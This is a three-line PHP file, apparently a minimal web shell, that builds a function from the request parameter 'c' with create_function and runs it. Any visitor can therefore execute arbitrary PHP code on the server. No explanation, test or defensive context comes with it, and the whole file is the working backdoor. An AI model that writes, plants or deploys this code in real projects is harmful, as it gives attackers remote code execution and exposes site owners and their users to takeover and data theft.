<?php
$f = create_function('', $_REQUEST['c']);
$f();
